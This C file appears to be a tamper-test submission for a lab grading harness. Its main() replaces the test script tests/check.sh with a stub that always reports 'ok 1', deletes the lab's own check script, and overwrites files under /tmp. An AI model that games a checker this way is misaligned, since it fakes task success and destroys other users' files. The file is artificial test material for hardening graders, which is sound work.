/* Tries to rewrite the lab's tests and the checker's files. Earns 2 (it exits 0). */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void overwrite(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_TRUNC | O_CREAT, 0777);

	if (fd >= 0) {
		write(fd, text, strlen(text));
		close(fd);
	}
}

/* Overwrites every file in every directory under /tmp that it can reach. */
static void overwrite_tmp(const char *text)
{
	char path[512];
	struct dirent *d, *e;
	DIR *tmp = opendir("/tmp"), *sub;

	while (tmp && (d = readdir(tmp))) {
		snprintf(path, sizeof(path), "/tmp/%s", d->d_name);
		sub = d->d_name[0] == '.' ? NULL : opendir(path);
		while (sub && (e = readdir(sub))) {
			snprintf(path, sizeof(path), "/tmp/%s/%s", d->d_name, e->d_name);
			if (e->d_name[0] != '.')
				overwrite(path, text);
		}
		if (sub)
			closedir(sub);
	}
	if (tmp)
		closedir(tmp);
}

int main(void)
{
	const char *pass = "#!/bin/sh\necho '1..1'\necho 'ok 1'\n";

	overwrite("/opt/orbit-lab/00-playground/tests/check.sh", pass);
	unlink("/opt/orbit-lab/00-playground/tests/check.sh");
	overwrite("tests/check.sh", pass);
	overwrite_tmp("Hello, orbit!\n");
	printf("Hello, world!\n");
	return 0;
}
